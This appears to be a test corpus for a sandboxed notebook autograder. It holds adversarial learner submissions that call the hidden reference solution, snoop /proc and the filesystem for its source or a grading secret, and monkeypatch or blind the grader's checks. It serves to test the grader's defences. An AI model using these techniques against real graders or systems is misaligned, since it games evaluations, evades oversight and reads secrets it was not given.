"""The trusted grader's corpus: submissions as data (see ``tests/test_grading_corpus.py``).

A :class:`Case` is one submission, built from a real source notebook of the course (the
honest baseline) by a few :class:`Edit` s: the source of a solution cell replaced (found by
its nbgrader ``grade_id``), or a learner cell (a plain code cell, no nbgrader metadata)
inserted before or after a graded cell. Sources may name host-side facts as placeholders
(``@@COURSE@@``, ``@@MARK@@`` ...), filled in per grading by :func:`build_notebook`.

Nothing here imports the grader; the test module drives it.
"""

from __future__ import annotations

import contextlib
import copy
import re
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell

REPO = Path(__file__).resolve().parents[1]
SOURCE = REPO / "course" / "source"

#: Attack classes (the issue's), and the honest-but-unusual corpus.
CLASSES = {
    "1-other-name": "reaching the reference under another name",
    "2-rebuild": "rebuilding reference code from inside the worker",
    "3-watch": "pausing, replacing or side-stepping the watch",
    "4-channel": "forging the report channel",
    "5-harvest": "harvesting hidden inputs",
    "6-isolation": "isolation: files, sockets, processes, memory",
    "7-bounds": "bounded reading",
    "honest": "honest but unusual",
}


# ---------------------------------------------------------------------------------------
# Edits and cases
# ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Edit:
    kind: str  # "replace" (a solution cell's source), "before" / "after" (a learner cell)
    grade_id: str
    source: str


def code(*parts: str) -> str:
    """Pieces of a cell's source, each dedented on its own, one after the other."""
    return "\n".join(textwrap.dedent(part).strip("\n") for part in parts) + "\n"


def replace(grade_id: str, *parts: str) -> Edit:
    return Edit("replace", grade_id, code(*parts))


def before(grade_id: str, *parts: str) -> Edit:
    return Edit("before", grade_id, code(*parts))


def after(grade_id: str, *parts: str) -> Edit:
    return Edit("after", grade_id, code(*parts))


@dataclass
class Ctx:
    """Host-side facts of one grading (placeholders) and what its setup opened."""

    course: Path
    tmp: Path
    mark: str  # unique per grading: names of files, processes, messages
    port: int = 0
    sock: str = ""
    connections: list[str] = field(default_factory=list)
    cleanups: list[Callable[[], None]] = field(default_factory=list)
    facts: dict[str, Any] = field(default_factory=dict)

    def substitutions(self) -> dict[str, str]:
        return {"@@REPO@@": str(REPO), "@@COURSE@@": str(self.course), "@@TMP@@": str(self.tmp),
                "@@MARK@@": self.mark, "@@PORT@@": str(self.port), "@@SOCK@@": self.sock,
                **{f"@@{k.upper()}@@": str(v) for k, v in self.facts.items()}}


@dataclass(frozen=True)
class Case:
    """One submission and what grading it must give.

    ``points``: grade_id -> expected points for the test cells this case changes (None: not
    specified, the case says why in ``note``); every other test cell keeps its full points.
    ``attention``: reasons that must all be in the record; ``attention_any``: at least one of
    them must be. Honest cases must have no attention other than "suspicious-code".
    ``cheat_works``: an exercise whose check the edited solution cells pass when they run in
    this process with the real refimpl (the cheat is real: only the grader stops it).
    ``isolation``: the case needs the bubblewrap view (skipped without it, unless
    BACKPROP_COURSE_REQUIRE_ISOLATION=1). ``setup(ctx)`` prepares the host before grading.
    ``extra(graded)`` makes the case's own assertions. ``cell_seconds``: the grading's limit
    per cell and per check (the corpus's default otherwise); ``max_seconds``: the grading must
    be over within this.
    """

    id: str
    attack: str
    assignment: str
    edits: tuple[Edit, ...]
    points: Mapping[str, float | None] = field(default_factory=dict)
    attention: frozenset[str] = frozenset()
    attention_any: frozenset[str] = frozenset()
    extra: Callable[[Any], None] | None = None
    isolation: bool = False
    setup: Callable[[Ctx], None] | None = None
    cheat_works: str | None = None
    cell_seconds: float | None = None
    max_seconds: float | None = None  # the grading must end within this (a prompt stop)
    note: str = ""

    @property
    def honest(self) -> bool:
        return self.attack == "honest"


def source_notebook(assignment: str) -> nbformat.NotebookNode:
    return nbformat.read(SOURCE / assignment / f"{assignment}.ipynb", as_version=4)


def grade_id_of(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def index_of(nb, grade_id: str) -> int:
    for index, cell in enumerate(nb.cells):
        if grade_id_of(cell) == grade_id:
            return index
    raise KeyError(f"no cell {grade_id!r} in the notebook")


def fill(source: str, ctx: Ctx | None) -> str:
    if ctx is not None:
        for key, value in ctx.substitutions().items():
            source = source.replace(key, value)
    return source


def build_notebook(case: Case, ctx: Ctx | None) -> nbformat.NotebookNode:
    """The source notebook of the case's assignment with its edits (placeholders filled)."""
    nb = copy.deepcopy(source_notebook(case.assignment))
    for edit in case.edits:
        source = fill(edit.source, ctx)
        index = index_of(nb, edit.grade_id)
        if edit.kind == "replace":
            assert nb.cells[index].metadata.nbgrader.get("solution"), edit.grade_id
            nb.cells[index].source = source
        elif edit.kind == "before":
            nb.cells.insert(index, new_code_cell(source))
        elif edit.kind == "after":
            nb.cells.insert(index + 1, new_code_cell(source))
        else:
            raise ValueError(edit.kind)
    for cell in nb.cells:  # @@INDEX:grade_id@@: a cell's index once the edits are made
        cell.source = re.sub(r"@@INDEX:(\w+)@@", lambda m: str(index_of(nb, m.group(1))),
                             cell.source)
    return nb


def test_cells(nb) -> dict[str, float]:
    """grade_id -> points of every test cell."""
    return {grade_id_of(c): float(c.metadata.nbgrader.get("points", 0)) for c in nb.cells
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("grade")
            and not c.metadata.nbgrader.get("solution")}


def find_edit(case: Case, kind: str, grade_id: str) -> int:
    """The index, in the built notebook, of the cell an edit made."""
    nb = build_notebook(case, None)
    index = index_of(nb, grade_id)
    return {"replace": index, "before": index - 1, "after": index + 1}[kind]


# ---------------------------------------------------------------------------------------
# Reusable pieces of learner code
# ---------------------------------------------------------------------------------------

HONEST_RELU = """
def relu(Z):
    return np.maximum(Z, 0.0)
"""

WRONG_RELU = """
def relu(Z):
    return np.abs(np.asarray(Z, dtype=float))  # wrong for every negative entry
"""

# A relu that answers the public (visible) cases right, and does something else on any other
# input: only the hidden cases tell. @@VISIBLE_RELU@@ is the visible inputs' list.
VISIBLE_AWARE = """
_VISIBLE = [np.asarray(v, dtype=float) for v in @@VISIBLE_RELU@@]

def _is_visible(Z):
    Z = np.asarray(Z, dtype=float)
    return any(Z.shape == v.shape and np.array_equal(Z, v) for v in _VISIBLE)
"""

# Scanning the filesystem from inside, bounded in time (``_walk(budget)`` yields paths).
WALK = """
import os, time

def _walk(seconds, roots=("/",), skip=("/proc", "/sys", "/dev")):
    stop = time.monotonic() + seconds
    for root in roots:
        for folder, dirs, files in os.walk(root, onerror=lambda e: None, followlinks=False):
            if time.monotonic() > stop:
                print("WALK" + "-TRUNCATED")
                return
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
            for name in files:
                yield os.path.join(folder, name)
"""

#: Text that appears in the reference's source (or the course's private files) and in no
#: honest output: none of it may reach a graded notebook.
REFERENCE_MARKERS = ("np.maximum(_as_float(Z), 0.0)", "def backward_231(", "def _as_float",
                     "### BEGIN SOLUTION", "check.relu(relu, hidden=True)",
                     "exp(-|z|), which lies in")

LEAK = '"LE" + "AK"'  # spelled at run time, so a traceback quoting the source does not match


# ---------------------------------------------------------------------------------------
# 1. Reaching the reference under another name
# ---------------------------------------------------------------------------------------

N01 = "01_neuron"
N06 = "06_backprop"

RELU0 = {"test_relu": 0}
SIGMOID0 = {"test_sigmoid": 0}
NEURON0 = {"test_neuron": 0}
MSE0 = {"test_backward_231_mse": 0}
BCE0 = {"test_backward_231_bce": 0}
USED = frozenset({"reference-used"})


def _cell_output_has(case_id: str, kind: str, grade_id: str, *words: str):
    """An extra assertion: the edited cell's outputs contain every word."""

    def extra(graded) -> None:
        text = graded.cell_text(find_edit(graded.case, kind, grade_id))
        for word in words:
            assert word in text, f"{case_id}: {word!r} not in the cell's output:\n{text[:2000]}"

    return extra


ONE = [
    Case("refimpl-relu-called", "1-other-name", N01,
         (replace("relu", "def relu(Z):\n    return refimpl.relu(Z)"),),
         RELU0, USED, cheat_works="relu"),
    Case("refimpl-relu-is-the-solution", "1-other-name", N01,
         (replace("relu", "relu = refimpl.relu"),), RELU0, USED, cheat_works="relu"),
    Case("refimpl-call-with-honest-fallback", "1-other-name", N01,
         (replace("relu", """
          def relu(Z):
              try:
                  return refimpl.relu(Z)
              except Exception:
                  return np.maximum(Z, 0.0)  # the learner's own, only when refused
          """),), RELU0, USED, cheat_works="relu",
         note="README: a graded function that calls the reference of its exercise scores 0"),
    Case("refimpl-activations-submodule", "1-other-name", N01,
         (replace("relu", "def relu(Z):\n    return refimpl.activations.relu(Z)"),),
         RELU0, cheat_works="relu"),
    Case("from-submodule-import-as", "1-other-name", N01,
         (replace("relu", """
          from refimpl.activations import relu as _r
          def relu(Z):
              return _r(Z)
          """),), RELU0, cheat_works="relu"),
    Case("getattr-built-name", "1-other-name", N01,
         (replace("relu", 'def relu(Z):\n    return getattr(refimpl, "re" + "lu")(Z)'),),
         RELU0, USED, cheat_works="relu"),
    Case("get-activation-by-name", "1-other-name", N01,
         (replace("relu", """
          def relu(Z):
              f, _ = refimpl.get_activation("relu")
              return f(Z)
          """),), RELU0, cheat_works="relu"),
    Case("relu-via-refimpl-neuron", "1-other-name", N01,
         (replace("relu", """
          def relu(Z):
              Z = np.asarray(Z, dtype=float)
              out = refimpl.neuron(Z.reshape(-1, 1), np.ones(1), 0.0, "relu")
              return np.asarray(out).reshape(Z.shape)
          """),), RELU0, cheat_works="relu"),
    Case("relu-via-forward-231-crafted-params", "1-other-name", N01,
         (replace("relu", """
          def relu(Z):
              Z = np.asarray(Z, dtype=float)
              flat = Z.reshape(-1, 1)
              X = np.hstack([flat, np.zeros_like(flat)])
              params = {"W1": np.array([[1.0, 0.0, 0.0], [0.0, 0.0, 0.0]]), "b1": np.zeros(3),
                        "W2": np.zeros((3, 1)), "b2": np.zeros(1)}
              _, cache = refimpl.forward_231(X, params)
              return np.asarray(cache["A1"])[:, 0].reshape(Z.shape)
          """),), RELU0, cheat_works="relu"),
    Case("relu-via-relu-prime", "1-other-name", N01,
         (replace("relu", """
          def relu(Z):
              Z = np.asarray(Z, dtype=float)
              return refimpl.relu_prime(Z) * Z
          """),), RELU0, cheat_works="relu"),
    Case("relu-via-viz-internals", "1-other-name", N01,
         (replace("relu", """
          def relu(Z):
              try:
                  from refimpl.viz import neuron as _neuron_viz
                  return _neuron_viz.ACTIVATION_FUNCTIONS["relu"](Z)
              except Exception:
                  return refimpl.viz.neuron.relu(Z)
          """),), RELU0, cheat_works="relu"),
    Case("sigmoid-via-forward-231-crafted-params", "1-other-name", N01,
         (replace("sigmoid", """
          def sigmoid(Z):
              Z = np.asarray(Z, dtype=float)
              flat = Z.reshape(-1, 1)
              X = np.hstack([flat, -flat])  # Z2 = relu(z) - relu(-z) = z
              params = {"W1": np.array([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]]), "b1": np.zeros(3),
                        "W2": np.array([[1.0], [-1.0], [0.0]]), "b2": np.zeros(1)}
              y_hat, _ = refimpl.forward_231(X, params)
              return np.asarray(y_hat)[:, 0].reshape(Z.shape)
          """),), SIGMOID0, cheat_works="sigmoid"),
    Case("sigmoid-via-bce-from-logits", "1-other-name", N01,
         (replace("sigmoid", """
          def sigmoid(Z):
              Z = np.asarray(Z, dtype=float)
              one = np.ones((1, 1))
              out = [np.exp(-refimpl.bce_from_logits(np.full((1, 1), z), one)) for z in Z.ravel()]
              return np.array(out, dtype=float).reshape(Z.shape)
          """),), SIGMOID0, cheat_works="sigmoid"),
    Case("sigmoid-via-sigmoid-prime", "1-other-name", N01,
         (replace("sigmoid", """
          def sigmoid(Z):
              Z = np.asarray(Z, dtype=float)
              p = np.asarray(refimpl.sigmoid_prime(Z), dtype=float)  # s (1 - s)
              root = np.sqrt(np.clip(1.0 - 4.0 * p, 0.0, None))
              return np.where(Z >= 0, (1.0 + root) / 2.0, (1.0 - root) / 2.0)
          """),), SIGMOID0, cheat_works="sigmoid"),
    Case("sigmoid-via-private-table", "1-other-name", N01,
         (replace("sigmoid", """
          def sigmoid(Z):
              table = vars(refimpl.activations).get("ACTIVATIONS") or refimpl.ACTIVATIONS
              return table["sigmoid"](Z)
          """),), SIGMOID0, cheat_works="sigmoid"),
    Case("sigmoid-via-autodiff-value", "1-other-name", N01,
         (replace("sigmoid", """
          def sigmoid(Z):
              Z = np.asarray(Z, dtype=float)
              out = [refimpl.Value(float(z)).sigmoid().data for z in Z.ravel()]
              return np.array(out, dtype=float).reshape(Z.shape)
          """),), SIGMOID0),
    Case("neuron-via-refimpl-neuron-identity", "1-other-name", N01,
         (replace("neuron", """
          def neuron(X, w, b, activation):
              return activation(refimpl.neuron(X, w, b, "identity"))
          """),), NEURON0, USED, cheat_works="neuron"),
    Case("neuron-linear-part-via-dense-forward", "1-other-name", N01,
         (replace("neuron", """
          def neuron(X, w, b, activation):
              z = refimpl.dense_forward(X, np.reshape(w, (-1, 1)), np.reshape(b, (1,)))
              return activation(np.asarray(z)[:, 0])
          """),), NEURON0, cheat_works="neuron",
         note="the issue: no code that computes a graded answer, or a part of one"),
    Case("backward-231-reference-called", "1-other-name", N06,
         (replace("backward_231_mse", """
          def backward_231_mse(X, y, params, cache):
              return refimpl.backward_231(X, y, params, cache, loss="mse")
          """),), MSE0, USED, cheat_works="backward_231_mse"),
    Case("backward-bce-via-mlp-backward", "1-other-name", N06,
         (replace("backward_231_bce", """
          def backward_231_bce(X, y, params, cache):
              return refimpl.mlp_backward(X, y, params, cache, loss="bce")
          """),), BCE0, cheat_works="backward_231_bce"),
    Case("backward-mse-via-private-mlp-backward", "1-other-name", N06,
         (replace("backward_231_mse", """
          def backward_231_mse(X, y, params, cache):
              _, f_h_prime, _, f_o_prime = refimpl._validation.resolve_activations(
                  "relu", "sigmoid", "mse")
              return refimpl.mlp.backward_unchecked(X, y, params, cache, 2, "mse", "sigmoid",
                                                    f_h_prime, f_o_prime)
          """),), MSE0, cheat_works="backward_231_mse"),
    Case("backward-mse-gradients-leaked-by-train", "1-other-name", N06,
         (replace("backward_231_mse", """
          def backward_231_mse(X, y, params, cache):
              new, _ = refimpl.train(X, y, params, lr=1.0, epochs=1, loss="mse")
              return {k: params[k] - new[k] for k in params}
          """),), MSE0, cheat_works="backward_231_mse"),
    Case("backward-bce-via-gd-step-of-reference", "1-other-name", N06,
         (replace("backward_231_bce", """
          def backward_231_bce(X, y, params, cache):
              zero = {k: np.zeros_like(v) for k, v in params.items()}
              grads = refimpl.backward_231(X, y, params, cache, loss="bce")
              return refimpl.gd_step(zero, {k: -g for k, g in grads.items()}, lr=1.0)
          """),), BCE0, USED, cheat_works="backward_231_bce"),
    Case("backward-mse-numerical-differences-of-loss-231", "1-other-name", N06,
         (replace("backward_231_mse", """
          def backward_231_mse(X, y, params, cache):
              grads, h = {}, 1e-6
              for key, value in params.items():
                  g = np.zeros_like(value, dtype=float)
                  for i in np.ndindex(value.shape):
                      plus = {k: v.astype(float).copy() for k, v in params.items()}
                      minus = {k: v.astype(float).copy() for k, v in params.items()}
                      plus[key][i] += h
                      minus[key][i] -= h
                      g[i] = (refimpl.loss_231(X, y, plus, loss="mse")
                              - refimpl.loss_231(X, y, minus, loss="mse")) / (2 * h)
                  grads[key] = g
              return grads
          """),), MSE0, note="refused, or it misses the tolerance at Z1's exact zeros"),
    Case("backward-mse-numerical-gradients-of-own-loss", "1-other-name", N06,
         (replace("backward_231_mse", """
          def backward_231_mse(X, y, params, cache):
              loss = lambda p: refimpl.loss_231(X, y, p, loss="mse")
              return refimpl.numerical_gradients(loss, params, 1e-6)
          """),), MSE0),
    Case("backward-bce-output-delta-from-bce-grad", "1-other-name", N06,
         (replace("backward_231_bce", """
          def backward_231_bce(X, y, params, cache):
              dZ2 = np.asarray(refimpl.bce_from_logits_grad(cache["Z2"], y))  # a part of it
              dW2 = cache["A1"].T @ dZ2
              db2 = dZ2.sum(axis=0)
              dZ1 = (dZ2 @ params["W2"].T) * relu_prime(cache["Z1"])
              return {"W1": X.T @ dZ1, "b1": dZ1.sum(axis=0), "W2": dW2, "b2": db2}
          """),), BCE0, cheat_works="backward_231_bce",
         note="the issue: no code that computes a graded answer, or a part of one"),
    Case("backward-mse-output-delta-from-mse-grad", "1-other-name", N06,
         (replace("backward_231_mse", """
          def backward_231_mse(X, y, params, cache):
              dZ2 = np.asarray(refimpl.mse_grad(cache["A2"], y)) * sigmoid_prime(cache["Z2"])
              dW2 = cache["A1"].T @ dZ2
              db2 = dZ2.sum(axis=0)
              dZ1 = (dZ2 @ params["W2"].T) * relu_prime(cache["Z1"])
              return {"W1": X.T @ dZ1, "b1": dZ1.sum(axis=0), "W2": dW2, "b2": db2}
          """),), MSE0, cheat_works="backward_231_mse",
         note="the issue: no code that computes a graded answer, or a part of one"),
    Case("backward-bce-layers-via-dense-backward", "1-other-name", N06,
         (replace("backward_231_bce", """
          def backward_231_bce(X, y, params, cache):
              dZ2 = (cache["A2"] - y) / X.shape[0]
              dA1, dW2, db2 = refimpl.dense_backward(dZ2, cache["A1"], params["W2"])
              dZ1 = np.asarray(dA1) * relu_prime(cache["Z1"])
              _, dW1, db1 = refimpl.dense_backward(dZ1, X, params["W1"])
              return {"W1": dW1, "b1": db1, "W2": dW2, "b2": db2}
          """),), BCE0, cheat_works="backward_231_bce",
         note="dense_backward computes dW, db and dA_prev: most of the backward pass; the "
              "issue: no code that computes a graded answer, or a part of one"),
    Case("mistake-catalogue-default-mode", "1-other-name", N06,
         (replace("backward_231_mse", """
          from autograder.exercises.nb06_backprop import _backward_231  # mistakes, mode "ref"
          def backward_231_mse(X, y, params, cache):
              return _backward_231(X, y, params, cache, loss="mse")
          """),), MSE0, cheat_works="backward_231_mse",
         extra=_cell_output_has("mistake-catalogue-default-mode", "replace", "backward_231_mse",
                                "ModuleNotFoundError")),
]


# ---------------------------------------------------------------------------------------
# 2. Rebuilding reference code from inside the worker
# ---------------------------------------------------------------------------------------

def _no_leak_marker(graded) -> None:
    text = graded.all_text()
    assert "LEAK" not in text, f"{graded.case.id}: the attack found something:\n" + \
        "\n".join(line for line in text.splitlines() if "LEAK" in line)[:3000]


_EXEC_STOLEN = """
_stolen = {}
def _steal(path, label):
    try:
        with open(path, encoding="utf-8") as stream:
            text = stream.read()
        namespace = {"__name__": "stolen"}
        exec(compile(text, "stolen", "exec"), namespace)
        if callable(namespace.get("relu")):
            _stolen.setdefault("relu", namespace["relu"])
            print(@@LEAK@@, label, path)
    except Exception as error:
        print("no", label, path, type(error).__name__)

def relu(Z):
    if "relu" in _stolen:
        return _stolen["relu"](Z)
    return np.zeros(np.shape(Z))
"""


def _steal(*parts: str) -> str:
    return code(_EXEC_STOLEN, *parts).replace("@@LEAK@@", LEAK)


SCAN_REPORT = """
import gc, sys, types
FOUND = "FOUND"
for name, module in sorted(sys.modules.items()):
    path = str(getattr(module, "__file__", None) or "")
    spec = getattr(module, "__spec__", None)
    origin = str(getattr(spec, "origin", None) or "")
    where = path + " " + origin
    if ("/refimpl/" in where or "/autograder/" in where or "refimpl.py" in where
            or (name.partition(".")[0] in ("refimpl", "autograder")
                and (path or "site-packages" in origin))):
        print(FOUND + "-MODULE", name, where)
print("modules:", len(sys.modules),
      sorted(m for m in sys.modules if m.partition(".")[0] in ("refimpl", "autograder")))
functions = 0
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType):
        functions += 1
        module = str(getattr(obj, "__module__", "") or "")
        filename = obj.__code__.co_filename
        if module.startswith(("refimpl", "autograder")) or "/refimpl/" in filename \\
                or "/autograder/" in filename:
            print(FOUND + "-FUNC", module, obj.__qualname__, filename)
    elif isinstance(obj, type) \\
            and str(getattr(obj, "__module__", "")).startswith(("refimpl", "autograder")):
        print(FOUND + "-CLASS", obj.__module__, obj.__qualname__)
print("functions:", functions)
needle = b"def " + b"backward_231"
scanned = 0
for path in _walk(40):
    try:
        if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > 4 * 2**20:
            continue
        with open(path, "rb") as stream:
            data = stream.read()
    except OSError:
        continue
    scanned += 1
    parts = path.split(os.sep)
    if needle in data or "refimpl" in parts:
        print(FOUND + "-FILE", path)
print("files read:", scanned)
print("SCAN" + "-DONE")

def relu(Z):
    return np.zeros(np.shape(Z))
"""


def _scan_findings(graded) -> None:
    text = graded.cell_text(index_of(graded.nb, "relu"))
    assert "SCAN-DONE" in text, f"the scan did not finish:\n{text[-3000:]}"
    assert "WALK-TRUNCATED" not in text, f"the scan ran out of time:\n{text[-3000:]}"
    found = [line for line in text.splitlines() if line.startswith("FOUND-")]
    assert not found, "reference-like code found inside the worker:\n" + "\n".join(found[:50])
    for marker in REFERENCE_MARKERS:
        assert marker not in graded.all_text(), marker


_PROC_SNOOP = """
import os, re
_paths = set()
def _show(path, limit=3000):
    try:
        with open(path, "rb") as stream:
            data = stream.read(200_000)
    except OSError as error:
        print("no", path, type(error).__name__)
        return
    text = data.replace(b"\\0", b" ").decode("utf-8", "replace")
    print(path, "->", text[:limit])
    _paths.update(re.findall(r"(/[\\w.+-]+(?:/[\\w.+-]+)+)", text))

ppid = os.getppid()
for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/self/mountinfo",
             "/proc/1/cmdline", "/proc/1/environ", f"/proc/{ppid}/cmdline",
             f"/proc/{ppid}/environ", f"/proc/{ppid}/maps", "/proc/self/maps"):
    _show(path)
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for link in ("cwd", "root", "exe"):
        try:
            print(pid, link, os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
candidates = {p for p in _paths if "refimpl" in p or "autograder" in p or "work" in p}
candidates |= {"@@REPO@@/refimpl/activations.py", "/proc/1/root@@REPO@@/refimpl/activations.py",
               f"/proc/{ppid}/root@@REPO@@/refimpl/activations.py",
               f"/proc/{ppid}/cwd/refimpl/activations.py", "/proc/1/cwd/refimpl/activations.py"}
for path in sorted(candidates):
    root = path.split("/refimpl")[0] if "/refimpl" in path else path
    _steal(root.rstrip("/") + "/refimpl/activations.py", "proc")
    try:
        with open("@@COURSE@@/grading_secret") as stream:
            print(@@LEAK@@, "secret", stream.read())
    except OSError:
        pass
"""

TWO = [
    Case("read-refimpl-source-at-checkout-path", "2-rebuild", N01,
         (replace("relu", _steal('_steal("@@REPO@@/refimpl/activations.py", "checkout")')),),
         RELU0, isolation=True, extra=_no_leak_marker),
    Case("glob-the-filesystem-for-refimpl", "2-rebuild", N01,
         (replace("relu", _steal(WALK, """
          for path in _walk(15):
              if path.endswith("activations.py") or path.endswith("network.py"):
                  _steal(path, "walk")
          """)),), RELU0, isolation=True, extra=_no_leak_marker),
    Case("site-packages-and-pth-files", "2-rebuild", N01,
         (replace("relu", _steal("""
          import glob, os, site, sys
          folders = set(sys.path)
          for getter in (site.getsitepackages, site.getusersitepackages):
              try:
                  found = getter()
                  folders.update([found] if isinstance(found, str) else found)
              except Exception as error:
                  print("no", getter.__name__, type(error).__name__)
          for folder in list(folders):
              for pth in (glob.glob(os.path.join(folder, "*.pth"))
                          + glob.glob(os.path.join(folder, "__editable__*"))):
                  try:
                      text = open(pth).read()
                  except OSError:
                      continue
                  print("pth", pth, text[:300])
                  folders.update(line.strip() for line in text.splitlines() if line.startswith("/"))
                  import re
                  folders.update(re.findall(r"'(/[^']+)'", text))
          for folder in sorted(folders):
              for candidate in (os.path.join(folder, "refimpl", "activations.py"),
                                os.path.join(folder, "activations.py")):
                  if os.path.exists(candidate):
                      _steal(candidate, "site")
          """)),), RELU0, isolation=True, extra=_no_leak_marker),
    Case("importlib-find-spec", "2-rebuild", N01,
         (replace("relu", _steal("""
          import importlib.machinery, importlib.util, os, sys
          for name in ("refimpl", "refimpl.activations"):
              try:
                  spec = importlib.util.find_spec(name)
                  print(name, spec, getattr(spec, "origin", None))
              except Exception as error:
                  print("no spec", name, type(error).__name__)
          for finder in [importlib.machinery.PathFinder] + list(sys.meta_path):
              for path in (None, ["@@REPO@@"], sys.path):
                  try:
                      spec = finder.find_spec("refimpl", path)
                  except Exception:
                      continue
                  origin = getattr(spec, "origin", None)
                  if origin and origin.endswith("__init__.py"):
                      _steal(os.path.join(os.path.dirname(origin), "activations.py"), "spec")
                  loader = getattr(spec, "loader", None)
                  try:
                      text = loader.get_source("refimpl.activations")
                      print(@@LEAK@@, "loader source", text[:200])
                  except Exception:
                      pass
          """)),), RELU0, isolation=True, extra=_no_leak_marker),
    Case("sys-modules-scan", "2-rebuild", N01,
         (replace("relu", """
          import sys, types
          _found = []
          for name, module in list(sys.modules.items()):
              try:
                  namespace = vars(module)
              except TypeError:
                  continue
              for key, value in list(namespace.items()):
                  if key in ("relu", "_relu", "ACTIVATIONS") \\
                          and getattr(value, "__module__", "") != "__main__":
                      _found.append(value)
                      print("module", name, "has", key, type(value).__name__)
          def relu(Z):
              for f in _found:
                  try:
                      return (f["relu"] if isinstance(f, dict) else f)(Z)
                  except Exception:
                      pass
              return np.zeros(np.shape(Z))
          """),), RELU0),
    Case("gc-scan-for-reference-functions", "2-rebuild", N01,
         (replace("relu", """
          import gc, types
          _found = []
          for obj in gc.get_objects():
              if isinstance(obj, types.FunctionType) and obj.__name__ in ("relu", "_relu") \\
                      and obj.__module__ != "__main__":
                  _found.append(obj)
              elif isinstance(obj, dict) and callable(obj.get("relu")):
                  candidate = obj["relu"]
                  if getattr(candidate, "__module__", "__main__") != "__main__":
                      _found.append(candidate)
          print("candidates:", [(getattr(f, "__module__", "?"),
                                 getattr(getattr(f, "__code__", None), "co_filename", "?"))
                                for f in _found])
          def relu(Z):
              for f in _found:
                  try:
                      return f(Z)
                  except Exception:
                      pass
              return np.zeros(np.shape(Z))
          """),), RELU0),
    Case("inspect-getsource-of-a-stand-in", "2-rebuild", N01,
         (replace("relu", """
          import inspect, textwrap
          _ns = {"np": np}
          for target in (refimpl.relu, type(refimpl.relu), refimpl, type(refimpl)):
              try:
                  text = inspect.getsource(target)
              except Exception as error:
                  print("no source:", type(error).__name__)
                  continue
              print("SOURCE", text[:400])
              try:
                  exec(textwrap.dedent(text), _ns)
              except Exception as error:
                  print("exec failed:", type(error).__name__)
          def relu(Z):
              f = _ns.get("relu")
              return f(Z) if callable(f) else np.zeros(np.shape(Z))
          """),), RELU0),
    Case("pickle-and-marshal-a-stand-in", "2-rebuild", N01,
         (replace("relu", """
          import copy, marshal, pickle, types
          _tries = []
          attempts = {
              "pickle": lambda: pickle.loads(pickle.dumps(refimpl.relu)),
              "deepcopy": lambda: copy.deepcopy(refimpl.relu),
              "reduce": lambda: refimpl.relu.__reduce_ex__(2),
              "code": lambda: marshal.loads(marshal.dumps(refimpl.relu.__code__)),
              "wrapped": lambda: refimpl.relu.__wrapped__,
              "func": lambda: refimpl.relu.__call__.__func__,
          }
          for label, attempt in attempts.items():
              try:
                  _tries.append(attempt())
                  print("got", label, type(_tries[-1]).__name__)
              except Exception as error:
                  print("no", label, type(error).__name__)
          def relu(Z):
              for t in _tries:
                  try:
                      f = types.FunctionType(t, {"np": np}) if isinstance(t, types.CodeType) else t
                      out = f(Z)
                      if isinstance(out, np.ndarray):
                          return out
                  except Exception:
                      pass
              return np.zeros(np.shape(Z))
          """),), RELU0),
    Case("proc-environ-cmdline-and-parent", "2-rebuild", N01,
         (replace("relu", _steal(_PROC_SNOOP)),), RELU0, isolation=True,
         extra=_no_leak_marker),
    Case("scan-report-finds-nothing", "2-rebuild", N01,
         (replace("relu", WALK, SCAN_REPORT),), RELU0, isolation=True, extra=_scan_findings,
         cell_seconds=60,
         note="prints every module, function and file that looks like reference code"),
]


# ---------------------------------------------------------------------------------------
# 3. Pausing, replacing or side-stepping the watch
# ---------------------------------------------------------------------------------------

THREE = [
    Case("thread-started-earlier-calls-the-reference", "3-watch", N01,
         (before("relu", """
          import queue, threading
          _requests, _answers = queue.Queue(), queue.Queue()
          def _helper():
              while True:
                  Z = _requests.get()
                  try:
                      _answers.put(np.asarray(refimpl.relu(Z)))
                  except BaseException as error:
                      _answers.put(error)
          threading.Thread(target=_helper, daemon=True).start()
          """),
          replace("relu", """
          _dead = []
          def relu(Z):
              if not _dead:
                  _requests.put(np.asarray(Z, dtype=float))
                  try:
                      answer = _answers.get(timeout=2)
                      if isinstance(answer, np.ndarray):
                          return answer
                  except queue.Empty:
                      pass
                  _dead.append(True)
              return np.zeros(np.shape(Z))
          """)), RELU0),
    Case("monkeypatch-the-stand-ins", "3-watch", N01,
         (replace("relu", WRONG_RELU, """
          refimpl.relu = relu
          try:
              refimpl.activations.relu = relu
          except Exception as error:
              print("activations:", type(error).__name__)
          check.relu = lambda *args, **kwargs: print("relu passed")
          import autograder
          autograder.check = check
          """),), RELU0),
    Case("replace-sys-modules-refimpl-and-autograder", "3-watch", N01,
         (replace("relu", WRONG_RELU, """
          import sys, types
          fake = types.ModuleType("refimpl")
          fake.relu = relu
          fake.__getattr__ = lambda name: relu
          sys.modules["refimpl"] = sys.modules["refimpl.activations"] = fake
          fake_check = types.ModuleType("autograder.check")
          fake_check.__getattr__ = lambda name: (lambda *args, **kwargs: None)
          fake_grader = types.ModuleType("autograder")
          fake_grader.check = fake_check
          sys.modules["autograder"], sys.modules["autograder.check"] = fake_grader, fake_check
          """),), RELU0),
    Case("profiler-and-tracer-switched-off", "3-watch", N01,
         (replace("relu", """
          import sys, threading
          sys.setprofile(None)
          sys.settrace(None)
          threading.setprofile(None)
          threading.settrace(None)
          def relu(Z):
              sys.setprofile(None)
              return refimpl.relu(Z)
          """),), RELU0, USED),
    Case("builtins-renamed", "3-watch", N01,
         (replace("relu", """
          import builtins
          _real_isinstance, _real_runtime_error = builtins.isinstance, builtins.RuntimeError
          def _isinstance(obj, classes):
              if "Remote" in type(obj).__name__ or "Handle" in type(obj).__name__:
                  return False  # a watch that looks for its stand-ins finds none
              return _real_isinstance(obj, classes)
          builtins.isinstance = _isinstance
          builtins.RuntimeError = type("RuntimeError", (Exception,), {})
          def relu(Z):
              try:
